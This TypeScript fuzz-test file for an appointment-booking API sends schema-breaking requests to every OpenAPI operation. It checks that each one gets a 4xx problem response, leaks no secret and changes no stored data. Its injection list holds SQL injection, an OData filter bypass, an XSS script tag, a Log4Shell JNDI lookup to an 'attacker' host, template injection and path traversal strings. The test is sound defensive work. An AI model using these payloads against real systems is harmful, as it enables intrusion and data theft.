/**
 * Fuzzing from the OpenAPI document the app serves: for every operation, requests that break its
 * schema in exactly one place (a path or query parameter, a header, or one field of an otherwise valid
 * body; wrong types, bounds, unicode, huge strings, impossible dates and zones, injection strings) are
 * sent with a manager's token, so they get past authorization to validation. Every answer must be a
 * 4xx problem+json (never 5xx), never echo a secret, and leave every stored row as it was.
 */
import { TableServiceClient, TableClient, odata } from '@azure/data-tables';
import fc from 'fast-check';
import { configureClinic, localTime, startAppStack, type AppStack } from '../support/app-stack';
import { testStorageConnectionString, uniqueTablePrefix } from '../support/env';

interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header';
  required?: boolean;
  schema?: { format?: string; enum?: string[] };
}
interface Operation {
  parameters?: Parameter[];
  requestBody?: { content: Record<string, unknown>; required?: boolean };
}
type OpenApi = { paths: Record<string, Record<string, Operation>> };

/** One broken part per request; the rest is valid. */
type Breakage =
  | { part: 'path' | 'query' | 'header'; name: string; value: string }
  | { part: 'field'; path: Array<string | number>; value: unknown }
  | { part: 'raw-body'; text: string; contentType: string };

const RUNS_PER_OPERATION = 40;
const PREFIX = uniqueTablePrefix();

// --- values that break any schema slot they are put in ----------------------------------------------

/** Characters no field of the API accepts (control characters, bidi overrides). */
const poison = fc.constantFrom('\u0000', '\r', '\u001b', '\u007f', '\u0085', '\u009b', '\u202e', '\u2066');
const injection = fc.constantFrom(
  "' OR '1'='1",
  '"; DROP TABLE appointments; --',
  "PartitionKey eq 'x' or true",
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '../../etc/passwd',
  '%00%0d%0a',
  'BEGIN:VEVENT\\nSUMMARY:x',
);
/** Text with at least one poison character, around injection strings or arbitrary graphemes. */
const brokenText = fc
  .tuple(fc.oneof(injection, fc.string({ unit: 'grapheme', maxLength: 30 })), poison, fc.string({ unit: 'grapheme', maxLength: 10 }))
  .map(([head, bad, tail]) => `${head}${bad}${tail}`);
/** For JSON bodies: any code points, lone surrogates included. */
const brokenBodyText = fc.tuple(fc.string({ unit: 'binary', maxLength: 30 }), poison).map(([head, bad]) => `${head}${bad}`);
const impossibleDate = fc.constantFrom(
  '2025-02-30',
  '2025-13-01',
  '0050-03-01',
  '0000-01-01',
  '1969-12-31',
  '3000-01-01',
  '99999-01-01',
  '+275760-09-13T00:00:00Z',
  '0050-03-01T09:00:00Z',
  '2025-03-01T25:00:00Z',
  '2025-03-01T09:00:00',
  '2025-03-01T09:00:00+25:00',
  'NaN',
  '',
);
const badZone = fc.constantFrom('Mars/Phobos', '+01:00', 'Etc/GMT+99', 'Europe/Berlin ', '../../../etc/localtime', '');
const badLimit = fc.constantFrom('0', '-1', '1.5', '501', '1e9', 'abc', '');

/** A value of the wrong JSON type (or a poisoned string) for a valid body's leaf or node. */
function wrongValueFor(key: string | number, valid: unknown): fc.Arbitrary<unknown> {
  const wrongType: Array<fc.Arbitrary<unknown>> = [];
  if (typeof valid !== 'string') wrongType.push(brokenBodyText, fc.constant('true'));
  if (typeof valid !== 'number') wrongType.push(fc.integer(), fc.double({ noNaN: true }));
  if (typeof valid !== 'boolean') wrongType.push(fc.boolean());
  if (!Array.isArray(valid)) wrongType.push(fc.constant(['x']));
  if (typeof valid !== 'object' || valid === null || Array.isArray(valid)) wrongType.push(fc.constant({ nested: { deeper: 1 } }));
  if (typeof valid === 'string') {
    wrongType.push(brokenBodyText, fc.constant(`${'x'.repeat(3000)}\u0000`));
    if (key === 'timeZone') wrongType.push(badZone);
    if (key === 'start' || key === 'date') wrongType.push(impossibleDate);
  }
  return fc.oneof(...wrongType);
}

function leafPaths(value: unknown, path: Array<string | number> = []): Array<Array<string | number>> {
  const here = path.length > 0 ? [path] : [];
  if (Array.isArray(value)) return [...here, ...value.flatMap((item, i) => leafPaths(item, [...path, i]))];
  if (value && typeof value === 'object') return [...here, ...Object.entries(value).flatMap(([k, v]) => leafPaths(v, [...path, k]))];
  return here;
}

function withValueAt(body: unknown, path: Array<string | number>, value: unknown): unknown {
  const copy = structuredClone(body) as Record<string | number, unknown>;
  let node = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]!] = value;
  return copy;
}

// --- the stack, its secrets, and what is stored ------------------------------------------------------

let stack: AppStack;
let managerToken: string;
const valid: Record<string, string> = {};
const secrets: string[] = [];
let validBodies: Record<string, unknown>;

/** Every row of this run's tables (bookkeeping of the outbox sweep left out), in a stable order. */
async function storedRows(): Promise<string[]> {
  const service = TableServiceClient.fromConnectionString(testStorageConnectionString(), { allowInsecureConnection: true });
  const rows: string[] = [];
  for await (const table of service.listTables({
    queryOptions: { filter: odata`TableName ge ${PREFIX} and TableName lt ${`${PREFIX}~`}` },
  })) {
    const client = TableClient.fromConnectionString(testStorageConnectionString(), table.name!, { allowInsecureConnection: true });
    for await (const entity of client.listEntities()) {
      if (entity.partitionKey === 'outbox-dirty') continue;
      const { timestamp: _timestamp, ...rest } = entity as Record<string, unknown>;
      rows.push(`${table.name}|${JSON.stringify(rest)}`);
    }
  }
  return rows.sort();
}

async function settledRows(): Promise<string[]> {
  let previous = await storedRows();
  for (let i = 0; i < 30; i++) {
    await new Promise((resolve) => setTimeout(resolve, 500));
    const current = await storedRows();
    if (JSON.stringify(current) === JSON.stringify(previous)) return current;
    previous = current;
  }
  throw new Error('the stored rows never settled');
}

beforeAll(async () => {
  stack = await startAppStack({ env: { TABLE_NAME_PREFIX: PREFIX, RATE_LIMIT_PER_SECOND: '100000', RATE_LIMIT_BURST: '100000' } });
  ({ managerToken } = await configureClinic(stack, { businessId: 'clinic', providers: ['amy', 'bob'] }));
  const start = await localTime(stack, 'Europe/Berlin', 20, '10:00');
  const booking = await stack.call<{ appointment: { id: string }; manageToken: string }>('POST', '/businesses/clinic/appointments', {
    body: {
      serviceId: 'consult',
      start,
      providerId: 'amy',
      consumer: { name: 'Jane Roe', email: 'jane@example.com', phone: '+4930123456', smsConsent: true },
    },
  });
  if (booking.status !== 201) throw new Error(`booking failed: ${booking.status} ${booking.text}`);
  const feed = await stack.call<{ feedToken: string }>('POST', '/businesses/clinic/providers/amy/calendar-feed-token', {
    token: managerToken,
  });
  if (feed.status >= 300) throw new Error(`feed token failed: ${feed.status} ${feed.text}`);
  Object.assign(valid, {
    businessId: 'clinic',
    providerId: 'amy',
    serviceId: 'consult',
    appointmentId: booking.body.appointment.id,
    date: start.slice(0, 10),
    closureId: 'fuzz-closure',
  });
  const accessKey = /accesskey=([^;]+)/i.exec(process.env.TEST_ACS_CONNECTION_STRING ?? '')?.[1];
  secrets.push(managerToken, booking.body.manageToken, feed.body.feedToken, ...(accessKey ? [accessKey] : []));
  const later = await localTime(stack, 'Europe/Berlin', 21, '11:00');
  validBodies = {
    'PUT /businesses/{businessId}': {
      name: 'Clinic clinic',
      timeZone: 'Europe/Berlin',
      managers: ['manager-clinic'],
      contactEmail: 'desk@clinic.example',
    },
    'PUT /businesses/{businessId}/providers/{providerId}': {
      displayName: 'Dr amy',
      email: 'amy@clinic.example',
      phone: '+4930123456',
      timeZone: 'Europe/Berlin',
      staffObjectId: 'oid-clinic-amy',
    },
    'PUT /businesses/{businessId}/providers/{providerId}/schedule': {
      timeZone: 'Europe/Berlin',
      weekly: { mon: [{ start: '09:00', end: '17:00' }], tue: [] },
    },
    'PUT /businesses/{businessId}/providers/{providerId}/overrides/{date}': { intervals: [{ start: '09:00', end: '12:00' }] },
    'PUT /businesses/{businessId}/services/{serviceId}': {
      name: 'Consultation',
      durationMinutes: 30,
      providerIds: ['amy', 'bob'],
      bufferBeforeMinutes: 0,
      bookingWindowDays: 60,
      reminders: [{ offsetMinutes: 1440, channels: ['email'] }],
    },
    'POST /businesses/{businessId}/phone-verifications': { phone: '+4930123457' },
    'PUT /businesses/{businessId}/closures/{closureId}': { from: later.slice(0, 10), to: later.slice(0, 10), reason: 'Holiday' },
    'POST /businesses/{businessId}/closures/{closureId}/cancel-appointments': { reason: 'Closed for the holiday' },
    'POST /businesses/{businessId}/appointments/lookup': { email: 'jane@example.com' },
    'POST /businesses/{businessId}/appointments': {
      serviceId: 'consult',
      start: later,
      providerId: 'bob',
      consumer: {
        name: 'Max Muster',
        email: 'max@example.com',
        phone: '+4930123457',
        timeZone: 'Europe/Berlin',
        locale: 'de-DE',
        smsConsent: true,
        phoneVerification: { id: 'verification-1', code: '123456' },
      },
      notes: 'first visit',
    },
    'POST /appointments/{appointmentId}/cancel': { reason: 'sick' },
    'POST /appointments/{appointmentId}/reschedule': { start: later, providerId: 'bob' },
    'POST /appointments/{appointmentId}/sms-consent': { consent: false },
  };
});

afterAll(async () => {
  await stack?.stop();
});

// --- generating one broken request per operation ----------------------------------------------------

function parameterBreakage(parameter: Parameter): fc.Arbitrary<Breakage> {
  const part = parameter.in;
  const name = parameter.name;
  const value = (arbitrary: fc.Arbitrary<string>) => arbitrary.map((v): Breakage => ({ part, name, value: v }));
  if (part === 'header') {
    if (name === 'Idempotency-Key') return value(fc.constantFrom('', 'x'.repeat(256), 'caf\u00e9'));
    if (name === 'If-Match') return value(fc.constantFrom('"999"', 'garbage', '"abc"'));
    throw new Error(`no breakage for header ${name}: teach the fuzzer`);
  }
  const ids = fc.oneof(brokenText, fc.constantFrom('x'.repeat(65), '-a', '_a', 'a b', 'a|b', '\u00e9t\u00e9'));
  switch (name) {
    case 'businessId':
    case 'providerId':
    case 'serviceId':
    case 'appointmentId':
    case 'closureId':
      return value(ids);
    case 'date':
    case 'from':
    case 'to':
      return value(
        fc.oneof(
          impossibleDate.filter((d) => d !== '' || part === 'query'),
          brokenText,
        ),
      );
    case 'timeZone':
      return value(fc.oneof(badZone, brokenText));
    case 'status':
      return value(fc.oneof(brokenText, fc.constantFrom('BOOKED', 'deleted', '')));
    case 'limit':
      return value(badLimit);
    case 'continuationToken':
      return value(
        fc.oneof(
          brokenText,
          fc.constantFrom('x'.repeat(600), 'eyJhIjoxfQ', 'e30', '!!!', Buffer.from('{"after":{"start":"x"}}').toString('base64url')),
        ),
      );
    case 'feedToken':
      return value(fc.oneof(brokenText, fc.constantFrom('x'.repeat(300), 'AAAA')));
    default:
      throw new Error(`no breakage for parameter ${name}: teach the fuzzer`);
  }
}

/** `required`: an optional body may be empty, so an empty text breaks nothing there. */
function bodyBreakage(body: unknown, required: boolean): fc.Arbitrary<Breakage> {
  const paths = leafPaths(body);
  const field = fc
    .constantFrom(...paths)
    .chain((path) =>
      wrongValueFor(path[path.length - 1]!, pathValue(body, path)).map((v): Breakage => ({ part: 'field', path, value: v })),
    );
  const json = JSON.stringify(body);
  const raw = fc.oneof(
    fc
      .jsonValue()
      .filter((v) => v === null || typeof v !== 'object' || Array.isArray(v))
      .map((v): Breakage => ({ part: 'raw-body', text: JSON.stringify(v), contentType: 'application/json' })),
    fc
      .integer({ min: required ? 0 : 1, max: json.length - 1 })
      .map((n): Breakage => ({ part: 'raw-body', text: json.slice(0, n), contentType: 'application/json' })),
    fc
      .constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/xml')
      .map((type): Breakage => ({ part: 'raw-body', text: json, contentType: type })),
    fc.constant<Breakage>({
      part: 'raw-body',
      text: JSON.stringify({ ...(body as object), padding: 'x'.repeat(70 * 1024) }),
      contentType: 'application/json',
    }),
  );
  return fc.oneof({ weight: 3, arbitrary: field }, { weight: 1, arbitrary: raw });
}

function pathValue(body: unknown, path: Array<string | number>): unknown {
  return path.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], body);
}

function requestFor(route: string, operation: Operation, breakage: Breakage, body: unknown): { url: string; init: RequestInit } {
  const value = (p: Parameter) => (breakage.part === p.in && breakage.name === p.name ? breakage.value : valid[p.name]);
  const parameters = operation.parameters ?? [];
  const path = route.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(value(parameters.find((p) => p.name === name)!) ?? ''));
  const query = new URLSearchParams();
  const validQuery: Record<string, string> = {
    from: valid.date!,
    to: new Date(Date.parse(valid.date!) + 7 * 86_400_000).toISOString().slice(0, 10),
  };
  for (const p of parameters.filter((q) => q.in === 'query')) {
    const broken = breakage.part === 'query' && breakage.name === p.name;
    if (broken) query.set(p.name, breakage.value);
    else if (p.required) query.set(p.name, validQuery[p.name] ?? valid[p.name]!);
  }
  const headers: Record<string, string> = { Authorization: `Bearer ${managerToken}` };
  if (breakage.part === 'header') headers[breakage.name] = breakage.value;
  let payload: string | undefined;
  if (breakage.part === 'raw-body') {
    payload = breakage.text;
    headers['Content-Type'] = breakage.contentType;
  } else if (body !== undefined) {
    payload = JSON.stringify(breakage.part === 'field' ? withValueAt(body, breakage.path, breakage.value) : body);
    headers['Content-Type'] = 'application/json';
  }
  const search = query.toString();
  return {
    url: `${stack.baseUrl}${path}${search ? `?${search}` : ''}`,
    init: { method: '', headers, ...(payload !== undefined ? { body: payload } : {}) },
  };
}

describe('fuzzing every operation of the OpenAPI document', () => {
  it('answers every request that breaks the schema with a 4xx problem, echoes no secret and changes nothing', async () => {
    const doc = (await (await fetch(`${stack.baseUrl}/openapi.json`)).json()) as OpenApi;
    const baseline = await settledRows();
    const fuzzed: string[] = [];
    const withoutInputs: string[] = [];
    for (const [route, item] of Object.entries(doc.paths)) {
      for (const [method, operation] of Object.entries(item)) {
        const name = `${method.toUpperCase()} ${route}`;
        const inputs = (operation.parameters ?? []).filter((p) => p.in !== 'header' || ['Idempotency-Key', 'If-Match'].includes(p.name));
        const hasBody = operation.requestBody?.content['application/json'] !== undefined;
        if (inputs.length === 0 && !hasBody) {
          withoutInputs.push(name);
          continue;
        }
        const body = hasBody ? validBodies[name] : undefined;
        if (hasBody && body === undefined) throw new Error(`${name} takes a body but the fuzzer has no valid example of it: add one`);
        const breakages = [
          ...inputs.map(parameterBreakage),
          ...(body !== undefined ? [bodyBreakage(body, operation.requestBody?.required === true)] : []),
        ];
        await fc.assert(
          fc.asyncProperty(fc.oneof(...breakages), async (breakage) => {
            const { url, init } = requestFor(route, operation, breakage, body);
            const response = await fetch(url, { ...init, method: method.toUpperCase() });
            const text = await response.text();
            expect(response.status).toBeGreaterThanOrEqual(400);
            expect(response.status).toBeLessThan(500);
            expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
            const problem = JSON.parse(text) as { status: number; type: string };
            expect(problem.status).toBe(response.status);
            for (const secret of secrets) expect(text).not.toContain(secret);
            expect(text).not.toMatch(/\n\s+at |\.js:\d+/);
          }),
          { numRuns: RUNS_PER_OPERATION, seed: Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31), endOnFailure: true },
        );
        expect(await storedRows()).toEqual(baseline);
        fuzzed.push(name);
      }
    }
    expect(withoutInputs.sort()).toEqual(['GET /asyncapi.json', 'GET /health', 'GET /openapi.json']);
    expect(fuzzed.length).toBeGreaterThanOrEqual(25);
  });
});
